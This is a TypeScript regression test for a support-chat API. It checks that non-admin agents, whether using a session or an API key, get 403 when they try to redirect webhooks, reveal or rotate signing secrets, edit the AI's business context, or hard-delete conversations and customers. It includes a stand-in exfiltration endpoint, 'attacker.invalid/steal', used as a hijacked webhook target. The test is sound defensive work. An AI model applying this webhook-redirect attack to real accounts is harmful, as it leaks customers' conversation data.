/**
 * Attack: a non-admin agent (or the API key of one) takes over account-wide
 * settings: points the account's webhooks (every conversation and customer)
 * at their own server, reads or rotates a signing secret to forge or break
 * deliveries, rewrites the business context the AI answers from, or hard-
 * deletes conversations and customers for the whole team. Each is now
 * admin-only (403, nothing changes); API keys have no scopes and act as their
 * user. Admins still can, and a subscription records who created it.
 */
import { registerAccount, type Api } from '../../helpers/api.js';
import { sharedStackTest } from '../../helpers/suite.js';
import { addMember, assertStatus } from '../../gateway/team.js';

const test = sharedStackTest(import.meta.url);

const CONTEXT = { business_name: 'Acme Bikes', business_description: 'We repair bikes.' };

async function apiKey(http: Api, token: string): Promise<string> {
  const created = await http.post('/api/personal_api_keys', { label: 'key' }, token);
  if (created.status !== 201) throw new Error(`api key: ${created.status} ${JSON.stringify(created.body)}`);
  return `Bearer ${created.body.data.value as string}`;
}

async function conversationOf(http: Api, token: string, name: string): Promise<{ customerId: string; conversationId: string }> {
  const customer = await http.post('/api/customers', { customer: { name } }, token);
  const conversation = await http.post('/api/conversations', { conversation: { customer_id: customer.body.data.id } }, token);
  if (conversation.status !== 201) throw new Error(`conversation: ${conversation.status} ${JSON.stringify(conversation.body)}`);
  return { customerId: customer.body.data.id, conversationId: conversation.body.data.id };
}

test('a non-admin agent, by session or API key, gets 403 on webhook writes, signing secrets, business-context edits and hard deletes; nothing changes', async (t) => {
  const { api: http, stack } = t.context;
  const admin = await registerAccount(http, 'Escalation Co');
  const agent = await addMember(stack, admin.accountId, 'user');
  const agentKey = await apiKey(http, agent.token);

  const sub = await http.post(
    '/api/event_subscriptions',
    { event_subscription: { webhook_url: 'https://hooks.invalid/netia' } },
    admin.token,
  );
  assertStatus(t, sub, 201, 'admin creates');
  const id = sub.body.data.id as string;
  const secret = sub.body.data.signing_secret as string;
  assertStatus(t, await http.put('/api/business_context', { business_context: CONTEXT }, admin.token), 200, 'admin sets the context');
  const target = await conversationOf(http, admin.token, 'Ada');

  const attacker = 'https://attacker.invalid/steal';
  const attempts: [string, Promise<{ status: number; body: any }>][] = [
    ['create subscription', http.post('/api/event_subscriptions', { event_subscription: { webhook_url: attacker } }, agent.token)],
    ['edit subscription', http.put(`/api/event_subscriptions/${id}`, { event_subscription: { webhook_url: attacker } }, agent.token)],
    ['re-verify subscription', http.post(`/api/event_subscriptions/${id}/verify`, {}, agent.token)],
    ['verify probe', http.post('/api/event_subscriptions/verify', { url: attacker }, agent.token)],
    ['reveal secret', http.get(`/api/event_subscriptions/${id}/signing_secret`, agent.token)],
    ['rotate secret', http.post(`/api/event_subscriptions/${id}/signing_secret`, {}, agent.token)],
    ['delete subscription', http.del(`/api/event_subscriptions/${id}`, agent.token)],
    ['create business context', http.post('/api/business_context', { business_context: { business_name: 'Evil' } }, agent.token)],
    ['edit business context', http.put('/api/business_context', { business_context: { business_name: 'Evil' } }, agent.token)],
    ['delete conversation', http.del(`/api/conversations/${target.conversationId}`, agent.token)],
    ['delete customer', http.del(`/api/customers/${target.customerId}`, agent.token)],
    ['delete conversation with API key', http.del(`/api/v1/conversations/${target.conversationId}`, agentKey)],
    ['delete customer with API key', http.del(`/api/v1/customers/${target.customerId}`, agentKey)],
  ];
  for (const [label, pending] of attempts) assertStatus(t, await pending, 403, label);

  // Nothing changed.
  const subs = (await http.get('/api/event_subscriptions', agent.token)).body.data;
  t.deepEqual(
    subs.map((s: any) => s.webhook_url),
    ['https://hooks.invalid/netia'],
    'agents still read the list; no new or edited subscription',
  );
  t.is(
    (await http.get(`/api/event_subscriptions/${id}/signing_secret`, admin.token)).body.data.signing_secret,
    secret,
    'secret not rotated',
  );
  t.like((await http.get('/api/business_context', agent.token)).body, CONTEXT);
  assertStatus(t, await http.get(`/api/conversations/${target.conversationId}`, admin.token), 200, 'conversation kept');
  assertStatus(t, await http.get(`/api/customers/${target.customerId}`, admin.token), 200, 'customer kept');
});

test('admins (by session or API key) still do all of it; a subscription records and shows who created it', async (t) => {
  const { api: http } = t.context;
  const admin = await registerAccount(http, 'Admin Co');
  const adminKey = await apiKey(http, admin.token);

  const sub = await http.post(
    '/api/event_subscriptions',
    { event_subscription: { webhook_url: 'https://hooks.invalid/admin' } },
    admin.token,
  );
  assertStatus(t, sub, 201, 'create');
  t.like(sub.body.data, { created_by_user_id: admin.userId, created_by: { id: admin.userId, email: admin.email } });
  const listed = (await http.get('/api/event_subscriptions', admin.token)).body.data;
  t.like(listed[0], { created_by_user_id: admin.userId, created_by: { email: admin.email } });
  const id = sub.body.data.id as string;
  assertStatus(
    t,
    await http.put(`/api/event_subscriptions/${id}`, { event_subscription: { scope: 'conversation:updated' } }, admin.token),
    200,
    'edit',
  );
  assertStatus(t, await http.get(`/api/event_subscriptions/${id}/signing_secret`, admin.token), 200, 'reveal');
  assertStatus(t, await http.post(`/api/event_subscriptions/${id}/signing_secret`, {}, admin.token), 200, 'rotate');
  assertStatus(t, await http.del(`/api/event_subscriptions/${id}`, admin.token), 204, 'delete');
  assertStatus(t, await http.put('/api/business_context', { business_context: CONTEXT }, admin.token), 200, 'business context');

  const one = await conversationOf(http, admin.token, 'Bea');
  assertStatus(t, await http.del(`/api/conversations/${one.conversationId}`, admin.token), 204, 'delete conversation');
  assertStatus(t, await http.del(`/api/customers/${one.customerId}`, admin.token), 204, 'delete customer');
  const two = await conversationOf(http, admin.token, 'Cy');
  assertStatus(t, await http.del(`/api/v1/conversations/${two.conversationId}`, adminKey), 204, 'delete conversation with API key');
  assertStatus(t, await http.del(`/api/v1/customers/${two.customerId}`, adminKey), 204, 'delete customer with API key');
});
